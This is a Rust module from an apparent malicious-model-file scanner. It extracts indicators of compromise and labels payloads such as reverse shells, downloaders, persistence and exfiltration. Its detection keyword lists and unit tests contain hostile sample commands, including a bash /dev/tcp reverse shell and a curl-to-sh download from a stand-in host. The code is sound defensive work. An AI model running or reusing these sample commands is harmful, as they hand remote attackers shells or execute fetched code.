//! One-line explanations of what a payload does, and the indicators in it (URLs, IPs,
//! domains, paths), for humans who must act on a finding.

use super::policy::Danger;

/// Indicators of compromise found in strings.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct Indicators {
    pub urls: Vec<String>,
    pub ips: Vec<String>,
    pub domains: Vec<String>,
    pub paths: Vec<String>,
}

impl Indicators {
    pub fn is_empty(&self) -> bool {
        self.urls.is_empty()
            && self.ips.is_empty()
            && self.domains.is_empty()
            && self.paths.is_empty()
    }

    /// Evidence pairs (`url`, `ip`, `domain`, `path`).
    pub fn evidence(&self) -> Vec<(&'static str, String)> {
        let mut v = Vec::new();
        v.extend(self.urls.iter().map(|u| ("url", u.clone())));
        v.extend(self.ips.iter().map(|u| ("ip", u.clone())));
        v.extend(self.domains.iter().map(|u| ("domain", u.clone())));
        v.extend(self.paths.iter().map(|u| ("path", u.clone())));
        v
    }
}

fn push_unique(v: &mut Vec<String>, s: String) {
    if !v.contains(&s) && v.len() < 16 {
        v.push(s);
    }
}

fn is_ipv4(s: &str) -> bool {
    let parts: Vec<&str> = s.split('.').collect();
    parts.len() == 4
        && parts
            .iter()
            .all(|p| !p.is_empty() && p.len() <= 3 && p.parse::<u8>().is_ok())
}

/// Extract indicators from payload strings.
pub fn indicators(strings: &[String]) -> Indicators {
    let mut ind = Indicators::default();
    for s in strings {
        for raw in s.split(|c: char| {
            c.is_whitespace()
                || matches!(
                    c,
                    '"' | '\'' | '`' | '(' | ')' | ';' | '|' | ',' | '<' | '>'
                )
        }) {
            let tok = raw.trim_matches(|c: char| matches!(c, '.' | ',' | ':' | '&'));
            if tok.is_empty() {
                continue;
            }
            let lower = tok.to_ascii_lowercase();
            if ["http://", "https://", "ftp://", "tcp://", "udp://"]
                .iter()
                .any(|p| lower.starts_with(p))
            {
                push_unique(&mut ind.urls, tok.to_string());
                let host = tok
                    .split("://")
                    .nth(1)
                    .unwrap_or("")
                    .split(['/', '?'])
                    .next()
                    .unwrap_or("");
                let host_only = host.rsplit_once(':').map(|(h, _)| h).unwrap_or(host);
                if is_ipv4(host_only) {
                    push_unique(&mut ind.ips, host.to_string());
                } else if host_only.contains('.') {
                    push_unique(&mut ind.domains, host_only.to_string());
                }
                continue;
            }
            // /dev/tcp/203.0.113.7/4444
            if let Some(rest) = tok
                .strip_prefix("/dev/tcp/")
                .or_else(|| tok.strip_prefix("/dev/udp/"))
            {
                let mut it = rest.split('/');
                let host = it.next().unwrap_or("");
                let port = it.next().unwrap_or("");
                push_unique(
                    &mut ind.ips,
                    if port.is_empty() {
                        host.to_string()
                    } else {
                        format!("{host}:{port}")
                    },
                );
                continue;
            }
            let (host, port) = tok.rsplit_once(':').unwrap_or((tok, ""));
            if is_ipv4(host) {
                push_unique(
                    &mut ind.ips,
                    if port.chars().all(|c| c.is_ascii_digit()) && !port.is_empty() {
                        tok.to_string()
                    } else {
                        host.to_string()
                    },
                );
                continue;
            }
            if (tok.starts_with('/') || tok.starts_with("~/"))
                && tok.len() > 1
                && !tok.contains("//")
            {
                push_unique(&mut ind.paths, tok.to_string());
                continue;
            }
            let labels: Vec<&str> = host.split('.').collect();
            let tld_ok = labels.last().is_some_and(|t| {
                t.len() >= 2 && t.len() <= 12 && t.chars().all(|c| c.is_ascii_alphabetic())
            });
            if labels.len() >= 2
                && tld_ok
                && labels.iter().all(|l| {
                    !l.is_empty() && l.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
                })
                && !matches!(
                    labels.last(),
                    Some(&"py")
                        | Some(&"sh")
                        | Some(&"txt")
                        | Some(&"pt")
                        | Some(&"pkl")
                        | Some(&"bin")
                        | Some(&"json")
                        | Some(&"so")
                )
            {
                push_unique(&mut ind.domains, host.to_string());
            }
        }
    }
    ind
}

/// What the call does, in one line, from what it calls and the strings it passes.
pub fn explain(target: &str, danger: Danger, strings: &[String]) -> String {
    let all = strings.join(" ").to_ascii_lowercase();
    let has = |n: &str| all.contains(n);
    let shellish = matches!(
        danger,
        Danger::ProcessSpawn | Danger::CodeExec | Danger::IndirectExec
    );
    if shellish
        && (has("/dev/tcp/")
            || (has("nc ") && (has(" -e") || has(" -c")))
            || has("bash -i")
            || (has("socket") && has("dup2"))
            || has("pty.spawn")
            || has("mkfifo"))
    {
        return "reverse shell: connects out and hands a shell to the remote end".into();
    }
    if shellish
        && (has("curl ")
            || has("wget ")
            || has("urlopen")
            || has("invoke-webrequest")
            || has("certutil"))
    {
        if has("| sh")
            || has("|sh")
            || has("| bash")
            || has("|bash")
            || has("exec(")
            || has("python")
        {
            return "downloader: fetches a remote payload and runs it".into();
        }
        return "downloader: fetches remote content".into();
    }
    if shellish && (has("base64 -d") || has("b64decode")) {
        return "obfuscated payload: decodes hidden code and runs it".into();
    }
    if shellish && (has("rm -rf") || has("shutil.rmtree") || has("mkfs")) {
        return "destructive command: deletes files".into();
    }
    if shellish && (has("crontab") || has(".bashrc") || has("authorized_keys") || has("systemctl"))
    {
        return "persistence: installs itself to run again later".into();
    }
    if shellish
        && (has("/etc/passwd") || has(".ssh") || has("aws_access") || has("env"))
        && (has("curl") || has("http"))
    {
        return "exfiltration: sends local secrets to a remote host".into();
    }
    match danger {
        Danger::ProcessSpawn => format!("process spawn: {target} runs a command on load"),
        Danger::CodeExec => {
            format!("code execution: {target} runs attacker-supplied Python on load")
        }
        Danger::Network => format!("network access: {target} connects to a remote host on load"),
        Danger::FileWrite => {
            format!("file write: {target} creates, changes or deletes files on load")
        }
        Danger::FileRead => format!("file read: {target} reads local files on load"),
        Danger::NativeCode => format!("native code: {target} loads a shared library on load"),
        Danger::Importer => format!("dynamic import: {target} imports arbitrary code on load"),
        Danger::NestedLoad => format!("nested deserialisation: {target} loads an embedded payload"),
        Danger::Introspection => format!(
            "interpreter internals: {target} reaches builtins/globals to escape restrictions"
        ),
        Danger::IndirectExec => format!("indirect execution: {target} runs a callable on load"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_indicators() {
        let i = indicators(&[
            "bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'".into(),
            "curl http://evil.example.com/x.sh | sh".into(),
        ]);
        assert_eq!(i.ips, ["203.0.113.7:4444"]);
        assert_eq!(i.urls, ["http://evil.example.com/x.sh"]);
        assert_eq!(i.domains, ["evil.example.com"]);
        let i = indicators(&["cat /etc/passwd".into(), "model.bin".into()]);
        assert_eq!(i.paths, ["/etc/passwd"]);
        assert!(i.domains.is_empty());
    }

    #[test]
    fn explains_payloads() {
        assert!(
            explain(
                "os.system",
                Danger::ProcessSpawn,
                &["bash -i >& /dev/tcp/1.2.3.4/1 0>&1".into()]
            )
            .starts_with("reverse shell")
        );
        assert!(
            explain(
                "os.system",
                Danger::ProcessSpawn,
                &["curl http://x.example/a | sh".into()]
            )
            .starts_with("downloader")
        );
        assert!(
            explain("os.system", Danger::ProcessSpawn, &["id".into()]).starts_with("process spawn")
        );
    }
}
